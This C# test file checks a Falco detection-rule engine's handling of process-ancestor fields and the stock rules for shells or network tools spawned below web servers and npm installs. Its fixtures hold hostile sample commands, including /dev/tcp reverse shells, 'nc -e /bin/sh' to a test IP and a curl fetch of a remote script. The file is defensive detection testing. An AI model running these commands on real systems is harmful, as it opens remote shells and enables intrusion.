using static ZtStream.Verifier.Tests.Rules.Falco.FalcoSyscallTestData;

namespace ZtStream.Verifier.Tests.Rules.Falco;

/// <summary>
/// libsinsp's ancestor fields (sinsp_filtercheck_thread.cpp: <c>proc.aname[N]</c>, <c>proc.apid[N]</c>,
/// <c>proc.acmdline[N]</c>, and without an index any ancestor, <c>compare_full_aname</c>) on Tetragon execs whose
/// <c>ancestors</c> list (<c>--enable-ancestors base</c>) names the parent's parent first; and the stock rules they let
/// load, each firing on the exec it describes beside the same chain with the ancestor elsewhere or not exported.
/// </summary>
public sealed class FalcoAncestorTests
{
    private static readonly Lazy<RuleLoadResult> All = new(() =>
        FalcoRuleLoader.Load([StockFile(), RulesFile(IncubatingRules), RulesFile(SandboxRules)], out _));

    /// <summary>A CGI script's interpreter, no web server itself, between the web server and the shell it ran.</summary>
    private const string ScriptParent = "\"binary\":\"/usr/bin/python3\",\"arguments\":\"/var/www/cgi-bin/upload.py\",\"pid\":3100";

    private static bool Fires(string rule, string line) => Assert.Single(All.Value.Rules, r => r.Id == rule).Condition.Matches(Event(line));

    private static string Chain(params string[] binaries) => string.Join(',', binaries.Select((b, i) => Ancestor(b, pid: 3000 - i)));

    private static string Render(string line, string output) =>
        ((FalcoRuleMatcher)FalcoTestData.Single($"""
            - rule: Every exec
              desc: renders the fields
              condition: evt.type = execve
              output: "{output}"
              priority: INFO
            """).Condition).RenderOutput(Event(line));

    private static bool Matches(string condition, string line) =>
        FalcoTestData.Single($"""
            - rule: Ancestors
              desc: x
              condition: evt.type = execve and {condition}
              output: o
              priority: WARNING
            """).Condition.Matches(Event(line));

    [Fact]
    public void IndexedFields_ReadTheProcessTheParentAndTheAncestorsNearestFirst()
    {
        var line = Exec("/bin/sh", "-c id", ancestors: string.Join(',', Ancestor("/usr/sbin/php-fpm8.2", "--nodaemonize", 2900), Ancestor("/usr/sbin/nginx", "-g \\\"daemon off;\\\"", 1)));

        Assert.Equal(
            "sh|bash|php-fpm8.2|nginx|<NA>|42101|42099|2900|1|<NA>|php-fpm8.2 --nodaemonize|nginx -g daemon off;|/usr/sbin/nginx",
            Render(line, "%proc.aname[0]|%proc.aname[1]|%proc.aname[2]|%proc.aname[3]|%proc.aname[4]|%proc.apid[0]|%proc.apid[1]|%proc.apid[2]|%proc.apid[3]|%proc.apid[4]|%proc.acmdline[2]|%proc.acmdline[3]|%proc.aexepath[3]"));
    }

    [Fact]
    public void FieldsWithoutAnIndex_InAnOutput_AreTheProcesssOwn_AsLibsinspExtractsThem()
    {
        Assert.Equal("sh|sh -c id|42101", Render(Exec("/bin/sh", "-c id", ancestors: Chain("/usr/sbin/sshd")), "%proc.aname|%proc.acmdline|%proc.apid"));
    }

    [Fact]
    public void IndexedFields_WithoutAnAncestorsList_HaveNoValueAboveTheParent()
    {
        Assert.Equal("bash|<NA>|<NA>|<NA>", Render(Exec("/bin/sh", "-c id"), "%proc.aname[1]|%proc.aname[2]|%proc.apid[2]|%proc.acmdline[2]"));
    }

    public static TheoryData<string, string, string?, bool> Conditions => new()
    {
        // Any ancestor: the parent and up, never the process itself (libsinsp's traverse_parent_state starts at the parent).
        { "any ancestor, deep", "proc.aname = sshd", Chain("/usr/bin/sudo", "/usr/bin/bash", "/usr/sbin/sshd"), true },
        { "any ancestor, the parent", "proc.aname = bash", null, true },
        { "any ancestor, none is sshd", "proc.aname = sshd", Chain("/usr/bin/sudo", "/usr/lib/systemd/systemd"), false },
        { "any ancestor, without a list", "proc.aname = sshd", null, false },
        { "the process itself is no ancestor", "proc.aname = sh", Chain("/usr/sbin/sshd"), false },
        { "any ancestor in a list", "proc.aname in (nginx, sshd)", Chain("/usr/sbin/sshd"), true },
        { "any ancestor in a list, none is", "proc.aname in (nginx, httpd)", Chain("/usr/sbin/sshd"), false },
        { "not any ancestor, without a list", "not proc.aname in (nginx, sshd)", null, true },
        { "not any ancestor, one is", "not proc.aname in (nginx, sshd)", Chain("/usr/sbin/sshd"), false },

        // libsinsp's != of any ancestor is some ancestor that differs, not none that equals.
        { "!= some ancestor differs", "proc.aname != bash", Chain("/usr/sbin/sshd"), true },
        { "!= the only ancestor equals", "proc.aname != bash", null, false },

        // An indexed ancestor that is not there has no value: the comparison is false, its not true.
        { "[2] there", "proc.aname[2] = sshd", Chain("/usr/sbin/sshd"), true },
        { "[2] at another depth", "proc.aname[2] = sshd", Chain("/usr/bin/sudo", "/usr/sbin/sshd"), false },
        { "[3] at that depth", "proc.aname[3] = sshd", Chain("/usr/bin/sudo", "/usr/sbin/sshd"), true },
        { "[2] without a list", "proc.aname[2] = sshd", null, false },
        { "[2] != without a list", "proc.aname[2] != sshd", null, false },
        { "not [2] without a list", "not proc.aname[2] = sshd", null, true },
        { "[5] beyond the list", "proc.aname[5] exists", Chain("/usr/sbin/sshd"), false },
        { "pid of any ancestor", "proc.apid = 2999", Chain("/usr/bin/sudo", "/usr/sbin/sshd"), true },
        { "pid of [2]", "proc.apid[2] = 2999", Chain("/usr/bin/sudo", "/usr/sbin/sshd"), false },
        { "command line of any ancestor", "proc.acmdline contains \"-g daemon\"", Ancestor("/usr/sbin/nginx", "-g daemon"), true },
        { "command line of [2]", "proc.acmdline[2] = \"nginx -g daemon\"", Ancestor("/usr/sbin/nginx", "-g daemon"), true },
    };

    [Theory]
    [MemberData(nameof(Conditions))]
    public void Condition_OnAncestors_HasLibsinspsMeaning(string because, string condition, string? ancestors, bool matches) =>
        Assert.True(matches == Matches(condition, Exec("/bin/sh", "-c id", ancestors: ancestors)), because);

    [Fact]
    public void Condition_ReadingAnAncestorsPath_IsRefused_AndTheOutputGivesThePathTheExecNamed()
    {
        var result = FalcoTestData.Load(("local_rules.yaml", """
            - rule: Path
              desc: x
              condition: evt.type = execve and proc.aexepath[2] = /usr/sbin/nginx
              output: o
              priority: WARNING
            """));

        Assert.Contains("reads proc.aexepath[2], which a process exec does not carry: libsinsp's is the executed file's canonical path", Assert.Single(result.Errors).Reason, StringComparison.Ordinal);
    }

    public static TheoryData<string, string, bool> WebServerShells => new()
    {
        { "nginx two levels up: nginx, a CGI script, its shell", Exec("/bin/bash", "-c id", pod: Pod(), parent: ScriptParent, ancestors: Chain("/usr/sbin/nginx")), true },
        { "nginx three levels up", Exec("/bin/bash", "-c id", pod: Pod(), parent: ScriptParent, ancestors: Chain("/usr/bin/perl", "/usr/sbin/nginx")), true },
        { "nginx four levels up: the macro reads [2] and [3] only", Exec("/bin/bash", "-c id", pod: Pod(), parent: ScriptParent, ancestors: Chain("/usr/bin/perl", "/usr/bin/python3", "/usr/sbin/nginx")), false },
        { "the same chain, ancestors not exported", Exec("/bin/bash", "-c id", pod: Pod(), parent: ScriptParent), false },
        { "a health check below nginx", Exec("/bin/sh", "-c /usr/bin/healthcheck", pod: Pod(), parent: ScriptParent, ancestors: Chain("/usr/sbin/nginx")), false },
        { "no web server above", Exec("/bin/bash", "-c id", pod: Pod(), parent: ScriptParent, ancestors: Chain("/usr/bin/containerd-shim-runc-v2")), false },
    };

    [Theory]
    [MemberData(nameof(WebServerShells))]
    public void WebServerSpawnedShell_FiresOnAShellBelowAWebServer(string because, string line, bool fires) =>
        Assert.True(fires == Fires("Web Server Spawned Shell", line), because);

    public static TheoryData<string, string, bool> WebServerChildren => new()
    {
        { "curl two levels below apache", Exec("/usr/bin/curl", "-fsS http://203.0.113.7/x.sh", parent: ShellParent, ancestors: Chain("/usr/sbin/apache2")), true },
        { "curl, apache not exported", Exec("/usr/bin/curl", "-fsS http://203.0.113.7/x.sh", parent: ShellParent), false },
        { "curl checking status below apache", Exec("/usr/bin/curl", "-fsS http://localhost/server-status", parent: ShellParent, ancestors: Chain("/usr/sbin/apache2")), false },
        { "a shell below apache is the other rule's", Exec("/bin/sh", "-c id", parent: ShellParent, ancestors: Chain("/usr/sbin/apache2")), false },
    };

    [Theory]
    [MemberData(nameof(WebServerChildren))]
    public void WebServerSpawnedSuspiciousChildProcess_FiresOnAToolBelowAWebServer(string because, string line, bool fires) =>
        Assert.True(fires == Fires("Web Server Spawned Suspicious Child Process", line), because);

    public static TheoryData<string, string, bool> ReverseShells => new()
    {
        { "bash -i to /dev/tcp below php-fpm", Exec("/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"", pod: Pod(), parent: ShellParent, ancestors: Chain("/usr/sbin/php-fpm")), true },
        { "the same below gunicorn three up", Exec("/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"", pod: Pod(), parent: ShellParent, ancestors: Chain("/usr/bin/python3", "/usr/local/bin/gunicorn")), true },
        { "the same, no web server above", Exec("/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"", pod: Pod(), parent: ShellParent, ancestors: Chain("/usr/bin/sshd")), false },
        { "the same, ancestors not exported", Exec("/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"", pod: Pod(), parent: ShellParent), false },
        { "an ordinary command below php-fpm", Exec("/bin/bash", "-c \"ls /var/www\"", pod: Pod(), parent: ShellParent, ancestors: Chain("/usr/sbin/php-fpm")), false },
    };

    [Theory]
    [MemberData(nameof(ReverseShells))]
    public void ReverseShellFromWebServer_FiresOnAReverseShellBelowAWebServer(string because, string line, bool fires) =>
        Assert.True(fires == Fires("Reverse Shell from Web Server", line), because);

    public static TheoryData<string, string, bool> NpmInstalls => new()
    {
        { "nc from a postinstall script: sh, node, npm", Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444", pod: Pod(), parent: "\"binary\":\"/bin/sh\",\"arguments\":\"-c \\\"node install.js\\\"\",\"pid\":900", ancestors: Chain("/usr/local/bin/node", "/usr/local/bin/npm")), true },
        { "yarn five levels up", Exec("/usr/bin/nc", "203.0.113.7 4444", pod: Pod(), parent: ShellParent, ancestors: Chain("/bin/sh", "/usr/local/bin/node", "/bin/sh", "/usr/local/bin/yarn")), true },
        { "npm six levels up: the macro reads up to [5]", Exec("/usr/bin/nc", "203.0.113.7 4444", pod: Pod(), parent: ShellParent, ancestors: Chain("/bin/sh", "/usr/local/bin/node", "/bin/sh", "/usr/local/bin/node", "/usr/local/bin/npm")), false },
        { "the same, ancestors not exported", Exec("/usr/bin/nc", "203.0.113.7 4444", pod: Pod(), parent: ShellParent), false },
        { "curl below npm is no network tool", Exec("/usr/bin/curl", "-fsS https://registry.npmjs.org/", pod: Pod(), parent: ShellParent, ancestors: Chain("/usr/local/bin/npm")), false },
        { "on the host", Exec("/usr/bin/nc", "203.0.113.7 4444", parent: ShellParent, ancestors: Chain("/usr/local/bin/npm")), false },
    };

    [Theory]
    [MemberData(nameof(NpmInstalls))]
    public void NetworkToolExecutedDuringNpmPackageInstall_FiresBelowANodePackageManager(string because, string line, bool fires) =>
        Assert.True(fires == Fires("Network Tool Executed During NPM Package Install", line), because);

    public static TheoryData<string, string, bool> PackageManagers => new()
    {
        { "apt-get run by a shell in a container", Exec("/usr/bin/apt-get", "install -y netcat", pod: Pod(), ancestors: Chain("/usr/bin/containerd-shim-runc-v2")), true },
        { "apt-get below apt two levels up: apt's own work", Exec("/usr/bin/apt-get", "install -y netcat", pod: Pod(), ancestors: Chain("/usr/bin/apt")), false },
        { "apt-get below apt four levels up", Exec("/usr/bin/apt-get", "install -y netcat", pod: Pod(), ancestors: Chain("/bin/sh", "/bin/sh", "/usr/bin/apt")), false },
        { "apt five levels up: the macro reads up to [4]", Exec("/usr/bin/apt-get", "install -y netcat", pod: Pod(), ancestors: Chain("/bin/sh", "/bin/sh", "/bin/sh", "/usr/bin/apt")), true },

        // Without the list the exception cannot see apt: Falco's answer for an ancestor it does not know.
        { "ancestors not exported", Exec("/usr/bin/apt-get", "install -y netcat", pod: Pod()), true },
        { "on the host", Exec("/usr/bin/apt-get", "install -y netcat", ancestors: Chain("/usr/sbin/sshd")), false },
    };

    [Theory]
    [MemberData(nameof(PackageManagers))]
    public void LaunchPackageManagementProcessInContainer_FiresUnlessAPackageManagerRanIt(string because, string line, bool fires) =>
        Assert.True(fires == Fires("Launch Package Management Process in Container", line), because);

    public static TheoryData<string, string, bool> SystemUsers => new()
    {
        { "www-data below sshd", Exec("/usr/bin/id", uid: 33, user: "www-data", ancestors: Chain("/usr/sbin/sshd")), true },
        { "www-data far below sshd", Exec("/usr/bin/id", uid: 33, user: "www-data", ancestors: Chain("/usr/bin/sudo", "/bin/bash", "/usr/bin/su", "/usr/sbin/sshd")), true },
        { "www-data below a web server", Exec("/usr/bin/id", uid: 33, user: "www-data", ancestors: Chain("/usr/sbin/apache2")), false },
        { "www-data, ancestors not exported", Exec("/usr/bin/id", uid: 33, user: "www-data"), false },
        { "a login user below sshd", Exec("/usr/bin/id", uid: 1000, user: "alice", ancestors: Chain("/usr/sbin/sshd")), false },
        { "sshd itself below sshd", Exec("/usr/sbin/sshd", "-D -R", uid: 74, user: "sshd", ancestors: Chain("/usr/sbin/sshd")), false },
    };

    [Theory]
    [MemberData(nameof(SystemUsers))]
    public void SystemUserInteractive_FiresOnASystemUsersCommandBelowSshd(string because, string line, bool fires) =>
        Assert.True(fires == Fires("System user interactive", line), because);
}
